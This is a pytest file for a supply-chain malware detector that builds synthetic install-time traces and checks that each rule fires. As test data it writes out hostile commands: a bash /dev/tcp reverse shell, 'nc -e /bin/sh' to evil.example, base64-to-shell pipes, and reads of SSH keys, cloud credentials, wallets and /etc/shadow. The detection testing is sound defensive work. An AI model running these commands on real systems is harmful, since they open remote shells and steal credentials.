"""Every rule fires on its behaviour and stays quiet on the toolchain's own; synthetic run folders."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from osptrack.verdict import judge_run_dir
from osptrack.verdict.engine import load_rules
from synth_runs import PIP, Run

SETUP = ["/usr/bin/python3", "setup.py", "install"]  # a package's own process (not pip's)


def _honeytoken(r: Run) -> None:
    r.exec(10, SETUP)
    r.dns("exfil.example")
    r.flow(dst="198.18.1.1", dst_port=80, bytes=99, hostname="exfil.example")
    r.info["exfiltration"] = [
        {
            "kind": "aws_secret_access_key",
            "phase": "install",
            "encoding": "base64",
            "t": r.records[-1]["t"],
            "flow": {"kind": "tcp", "dst": "198.18.1.1", "dst_port": 80},
        }
    ]


def _bait_then_connect(r: Run) -> None:
    r.exec(10, SETUP)
    r.bait_read(10, "/root/.ssh/id_rsa")
    r.dns("c2.example")
    r.connect(10, "198.18.1.1", 443)


def _bait_only(r: Run) -> None:
    r.exec(10, SETUP)
    r.bait_read(10, "/root/.aws/credentials")


def _second_stage(r: Run) -> None:
    """run.json as the fake network's stages write it: a flag, and the marker writes behind it."""
    r.exec(10, SETUP)
    r.exec(11, ["sh", "/tmp/stage2.sh"], ppid=10)
    write = r.open(11, "/tmp/.s3f9c1a2b7d4e", op="write", exe="/usr/bin/sh")
    r.info["second_stage_executed"] = True
    r.info["second_stage"] = {
        "marker": "/tmp/.s3f9c1a2b7d4e",
        "writes": [{"phase": "install", "pid": 11, "exe": "/usr/bin/sh", "t": write.t}],
    }


def _second_stage_old(r: Run) -> None:
    r.exec(10, SETUP)
    r.info["second_stage_executed"] = [
        {"phase": "install", "path": "/tmp/stage2.sh", "url": "http://x.example/s.sh"}
    ]


def _dropped(r: Run) -> None:
    r.exec(10, SETUP)
    r.file(10, "write", "/tmp/.x/payload")
    r.exec(11, ["/tmp/.x/payload"], ppid=10)


def _chmod(r: Run) -> None:
    r.exec(10, SETUP)
    r.file(10, "chmod", "/root/site/pkg/bin/helper")
    r.exec(11, ["/root/site/pkg/bin/helper", "--go"], ppid=10)


def _devtcp(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["bash", "-c", "bash -i >& /dev/tcp/198.18.1.1/4444 0>&1"], ppid=10)


def _nc(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["nc", "-e", "/bin/sh", "evil.example", "4444"], ppid=10)


def _shell_socket(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["/bin/bash", "-c", "exec 3<>/dev/tcp/x/1"], ppid=10)
    r.connect(11, "198.18.1.1", 4444, exe="/usr/bin/bash")


def _dup2(r: Run) -> None:
    r.exec(10, SETUP)
    r.connect(10, "198.18.1.1", 4444)
    r.exec(10, ["/bin/sh", "-i"])


def _bashrc(r: Run) -> None:
    r.exec(10, SETUP)
    r.open(10, "/root/.bashrc", op="write")


def _authorized_keys(r: Run) -> None:
    r.exec(10, SETUP)
    r.file(10, "rename", "/root/.ssh/.tmpkeys", path2="/root/.ssh/authorized_keys")


def _systemd_user(r: Run) -> None:
    r.exec(10, SETUP)
    r.open(10, "/root/.config/systemd/user/updater.service", op="write")


def _crontab(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["crontab", "/tmp/c"], ppid=10)


def _metadata(r: Run) -> None:
    r.exec(10, SETUP)
    r.connect(10, "169.254.169.254", 80)


def _metadata_dns(r: Run) -> None:
    r.exec(10, SETUP)
    r.dns("metadata.google.internal")


def _b64_pipe(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["sh", "-c", "echo aWQK | base64 -d | sh"], ppid=10)


def _py_b64(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"], ppid=10)


def _powershell(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["pwsh", "-enc", "SQBFAFgA"], ppid=10)


def _blob(r: Run) -> None:
    r.exec(10, SETUP)
    r.exec(11, ["node", "-e", "run(process.argv[1])", "QUJD" * 60], ppid=10)


def _install_host(r: Run) -> None:
    r.exec(10, SETUP)
    r.dns("downloads.example.net")


def _install_proxy(r: Run) -> None:
    """Online: the CONNECT through the allowlisting proxy names the host; no DNS is looked up."""
    r.exec(10, SETUP)
    r.connect(10, "198.18.0.80", 3128)
    r.flow(
        dst="198.18.0.80",
        dst_port=3128,
        bytes=60,
        hostname="github.com",
        first_bytes="Q09OTkVDVCBnaXRodWIuY29tOjQ0MyBIVFRQLzEuMQ0KDQo=",
    )


def _install_ip(r: Run) -> None:
    r.exec(10, SETUP)
    r.connect(10, "203.0.113.7", 8080)


def _alive(r: Run) -> None:
    r.exec(10, SETUP)
    r.info["phases"] = {
        "install": {
            "status": "completed",
            "timed_out": False,
            "started": 0,
            "alive_at_end": [{"pid": 77, "exe": "/usr/bin/python3", "argv": ["python3", "-c", "beacon"]}],
        }
    }


def _alive_count(r: Run) -> None:
    r.exec(10, SETUP)
    r.info["phases"] = {"install": {"status": "completed", "alive_at_end": 2}}


def _browser(r: Run) -> None:
    r.exec(10, SETUP)
    r.open(10, "/root/.config/google-chrome/Default/Login Data", errno="ENOENT")


def _wallet(r: Run) -> None:
    r.exec(10, SETUP)
    r.open(10, "/root/.electrum/wallets/default_wallet", errno="ENOENT")


def _probes(r: Run) -> None:
    r.exec(10, SETUP)
    for p in (
        "/root/.docker/config.json",
        "/root/.kube/config",
        "/root/.netrc",
        "/root/.config/gcloud/credentials.db",
    ):
        r.open(10, p, errno="ENOENT")


def _shadow(r: Run) -> None:
    r.exec(10, SETUP)
    r.open(10, "/etc/shadow")


def _listen(r: Run) -> None:
    r.exec(10, SETUP)
    r._event(
        10, "/usr/bin/python3", "listen", "network", "listen", family="AF_INET", address="0.0.0.0", port=4444
    )


def _probe_stat(r: Run) -> None:
    """stat/access probes (no open at all) of three credential stores, as the tracer marks them."""
    r.exec(10, SETUP)
    for path, cat in (
        ("/root/.kube", "cloud"),
        ("/root/.gnupg", "gpg"),
        ("/root/.bash_history", "env_history"),
    ):
        r.file(10, "stat", path, errno="ENOENT", probe=cat)


def _wallet_stat(r: Run) -> None:
    r.exec(10, SETUP)
    r.file(10, "access", "/root/.config/Exodus", errno="ENOENT", probe="wallet")


def _dns_tunnel(r: Run) -> None:
    r.exec(10, SETUP)
    for i in range(9):
        r.dns(f"x{i:02d}q7zk3m9p4t2w8v{i * 7919:06x}.t.tunnel.example", answer=f"198.18.1.{i + 1}")


CASES: list[tuple[str, Callable[[Run], None], str, str]] = [
    ("honeytoken-exfiltrated", _honeytoken, "critical", "malicious"),
    ("bait-read-then-connect", _bait_then_connect, "high", "malicious"),
    ("bait-credential-read", _bait_only, "medium", "suspicious"),
    ("second-stage-executed", _second_stage, "critical", "malicious"),
    ("second-stage-executed", _second_stage_old, "critical", "malicious"),
    ("dropped-file-executed", _dropped, "high", "malicious"),
    ("chmod-then-exec", _chmod, "high", "malicious"),
    ("reverse-shell-command", _devtcp, "critical", "malicious"),
    ("reverse-shell-command", _nc, "critical", "malicious"),
    ("reverse-shell-socket", _shell_socket, "critical", "malicious"),
    ("shell-after-connect", _dup2, "critical", "malicious"),
    ("persistence-write", _bashrc, "high", "malicious"),
    ("persistence-write", _authorized_keys, "high", "malicious"),
    ("persistence-write", _systemd_user, "high", "malicious"),
    ("persistence-command", _crontab, "high", "malicious"),
    ("cloud-metadata-access", _metadata, "high", "malicious"),
    ("cloud-metadata-dns", _metadata_dns, "high", "malicious"),
    ("encoded-command", _b64_pipe, "high", "malicious"),
    ("encoded-command", _py_b64, "high", "malicious"),
    ("encoded-command", _powershell, "high", "malicious"),
    ("encoded-blob-argument", _blob, "medium", "suspicious"),
    ("install-non-registry-host", _install_host, "medium", "suspicious"),
    ("install-non-registry-connection", _install_ip, "medium", "suspicious"),
    ("install-non-registry-proxy", _install_proxy, "medium", "suspicious"),
    ("process-left-running", _alive, "medium", "suspicious"),
    ("process-left-running", _alive_count, "medium", "suspicious"),
    ("browser-wallet-read", _browser, "high", "malicious"),
    ("browser-wallet-read", _wallet, "high", "malicious"),
    ("sensitive-path-probe", _probes, "medium", "suspicious"),
    ("sensitive-file-read", _shadow, "high", "malicious"),
    ("dns-random-subdomains", _dns_tunnel, "high", "malicious"),
    ("listening-socket", _listen, "medium", "suspicious"),
    ("sensitive-path-probe", _probe_stat, "medium", "suspicious"),
    ("browser-wallet-read", _wallet_stat, "high", "malicious"),
]


@pytest.mark.parametrize(
    ("rule", "build", "severity", "level"), CASES, ids=[f"{c[0]}-{c[1].__name__}" for c in CASES]
)
def test_rule_fires_with_evidence(
    tmp_path: Path, rule: str, build: Callable[[Run], None], severity: str, level: str
) -> None:
    r = Run()
    build(r)
    verdict = judge_run_dir(r.write(tmp_path / "run"))
    fired = {f.rule: f for f in verdict.findings}
    assert rule in fired, [f.rule for f in verdict.findings]
    finding = fired[rule]
    assert finding.severity == severity
    assert finding.phase == "install"
    assert finding.evidence and all(ev.summary for ev in finding.evidence)
    assert verdict.level == level, [(f.rule, f.severity) for f in verdict.findings]


def test_every_emitting_rule_has_a_case() -> None:
    emitting = {r.id for r in load_rules() if r.severity not in (None, "informational", "low")}
    silenced = {
        ref
        for r in load_rules()
        if r.correlation and not r.correlation.get("generate")
        for ref in r.correlation["rules"]
    }
    assert emitting - silenced - {c[0] for c in CASES} == set()


def test_evidence_names_the_events(tmp_path: Path) -> None:
    r = Run()
    _bait_then_connect(r)
    verdict = judge_run_dir(r.write(tmp_path / "run"))
    finding = next(f for f in verdict.findings if f.rule == "bait-read-then-connect")
    read, conn = finding.evidence
    assert read.type == "event" and read.pid == 10 and read.exe == "/usr/bin/python3"
    assert read.argv == SETUP and read.honeytoken == "ssh_private_key"
    assert conn.detail["address"] == "198.18.1.1" and conn.detail["hostname"] == "c2.example"
    lines = (tmp_path / "run" / "events.jsonl").read_text().splitlines()
    assert '"/root/.ssh/id_rsa"' in lines[int(read.ref.split(":")[1])]  # the ref is the line of events.jsonl


def test_second_stage_evidence_is_the_marker_write(tmp_path: Path) -> None:
    r = Run()
    _second_stage(r)
    verdict = judge_run_dir(r.write(tmp_path / "run"))
    ev = next(f for f in verdict.findings if f.rule == "second-stage-executed").evidence[0]
    assert ev.type == "event" and ev.pid == 11 and ev.ref is not None
    assert (
        "/tmp/.s3f9c1a2b7d4e" in (tmp_path / "run" / "events.jsonl").read_text().splitlines()[int(ev.ref[6:])]
    )
    r2 = Run()
    r2.exec(10, SETUP)
    r2.info["second_stage_executed"] = False
    r2.info["second_stage"] = {"marker": "/tmp/.x", "writes": []}
    assert "second-stage-executed" not in {f.rule for f in judge_run_dir(r2.write(tmp_path / "r2")).findings}


def test_toolchain_process_alive_at_end_is_not_a_finding(tmp_path: Path) -> None:
    """run.json as the tracer writes it: pid, ppid, exe, argv, started, toolchain (rule), killed_by."""
    r = Run()
    r.exec(10, SETUP)
    alive = [
        {
            "pid": 80,
            "ppid": 10,
            "exe": "/usr/bin/npm",
            "argv": ["npm"],
            "started": 1.0,
            "toolchain": "npm",
            "killed_by": "SIGKILL",
        },
        {
            "pid": 81,
            "ppid": 10,
            "exe": "/usr/bin/python3",
            "argv": ["python3", "-c", "beacon"],
            "started": 2.0,
            "toolchain": None,
            "killed_by": "SIGKILL",
        },
    ]
    r.info["phases"] = {
        "install": {"status": "completed", "timed_out": False, "started": 0, "alive_at_end": alive}
    }
    finding = next(
        f for f in judge_run_dir(r.write(tmp_path / "run")).findings if f.rule == "process-left-running"
    )
    assert [ev.pid for ev in finding.evidence] == [81] and finding.evidence[0].argv == [
        "python3",
        "-c",
        "beacon",
    ]


def test_connection_before_the_read_is_not_the_sequence(tmp_path: Path) -> None:
    r = Run()
    r.exec(10, SETUP)
    r.dns("c2.example")
    r.connect(10, "198.18.1.1", 443)
    r.bait_read(10, "/root/.ssh/id_rsa")
    rules = {f.rule for f in judge_run_dir(r.write(tmp_path / "run")).findings}
    assert "bait-read-then-connect" not in rules and "bait-credential-read" in rules


def test_toolchain_only_run_is_benign(tmp_path: Path) -> None:
    """pip itself and its lsb_release subtree, npm reading its .npmrc, a registry fetch: nothing fires."""
    r = Run()
    r.exec(10, PIP, by="/usr/bin/bwrap")
    r.open(10, "/root/site/x/__init__.py", op="write")
    r.clone(10, 11)
    r.exec(11, ["/usr/bin/lsb_release", "-a"], ppid=10)
    r.clone(11, 12, exe="/usr/bin/lsb_release")
    r.exec(12, ["/bin/sh", "-c", "tr a b"], by="/usr/bin/lsb_release", ppid=11)
    r.dns("pypi.org", answer="198.18.1.9")
    r.connect(10, "198.18.1.9", 443)
    r.flow(
        dst="198.18.0.80", dst_port=3128, bytes=60, hostname="files.pythonhosted.org"
    )  # online, via the proxy
    r.connect(10, "198.18.0.53", 53)
    r.connect(10, "/run/x.sock", 0, family="AF_UNIX")
    verdict = judge_run_dir(r.write(tmp_path / "run"))
    assert verdict.level == "benign" and verdict.score == 0, [
        (f.rule, f.evidence[0].summary) for f in verdict.findings
    ]


def test_npm_reading_its_own_npmrc_is_not_a_bait_read(tmp_path: Path) -> None:
    r = Run(ecosystem="npm")
    r.exec(10, ["/usr/bin/npm", "install", "/input/pkg/x.tgz"], by="/usr/bin/bwrap")
    r.bait_read(10, "/root/.npmrc", exe="/usr/bin/npm")
    r.clone(10, 11, exe="/usr/bin/npm")
    r.exec(11, ["/bin/sh", "-c", "node install.js"], by="/usr/bin/npm", ppid=10)
    r.clone(11, 12, exe="/bin/sh")
    r.exec(12, ["/usr/bin/node", "install.js"], by="/bin/sh", ppid=11)
    r.bait_read(12, "/root/.npmrc", exe="/usr/bin/node")  # the package's own script reading it
    verdict = judge_run_dir(r.write(tmp_path / "run"))
    reads = next(f for f in verdict.findings if f.rule == "bait-credential-read")
    assert [ev.pid for ev in reads.evidence] == [12]


def test_toolchain_process_writing_bashrc_is_still_caught(tmp_path: Path) -> None:
    """setup.py runs inside pip's own process: its writes are the package's, not the toolchain's."""
    r = Run()
    r.exec(10, ["/usr/bin/python3", "-c", "<pip-setuptools-caller>", "egg_info"])
    r.open(10, "/root/.bashrc", op="write")
    assert "persistence-write" in {f.rule for f in judge_run_dir(r.write(tmp_path / "run")).findings}


def test_import_phase_dns_is_not_install_time(tmp_path: Path) -> None:
    r = Run(phase="import")
    r.exec(10, ["/usr/bin/python3", "/input/harness/pypi_import.py", "x"])
    r.dns("telemetry.example.org")
    rules = {f.rule for f in judge_run_dir(r.write(tmp_path / "run")).findings}
    assert "install-non-registry-host" not in rules


def test_few_random_labels_are_not_a_tunnel(tmp_path: Path) -> None:
    r = Run()
    r.exec(10, SETUP)
    for i in range(3):
        r.dns(f"a{i}k3j9x8q2m7z5w1.cdn.example")
    assert "dns-random-subdomains" not in {f.rule for f in judge_run_dir(r.write(tmp_path / "run")).findings}


def test_every_case_is_judged_the_same_with_the_rule_memo_off(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """evaluate_records's memo (one evaluation per distinct record) changes no verdict: every
    case above, judged with it and with it off, gives the same findings, evidence and order."""
    from osptrack.verdict import engine

    for i, (_, build, _, _) in enumerate(CASES):
        r = Run()
        build(r)
        build(r)  # twice: records that repeat are what the memo shares
        folder = r.write(tmp_path / f"run{i}")
        with_memo = judge_run_dir(folder).to_dict()
        monkeypatch.setattr(engine, "MEMO_ENTRIES", 0)
        assert judge_run_dir(folder).to_dict() == with_memo, build.__name__
        monkeypatch.undo()
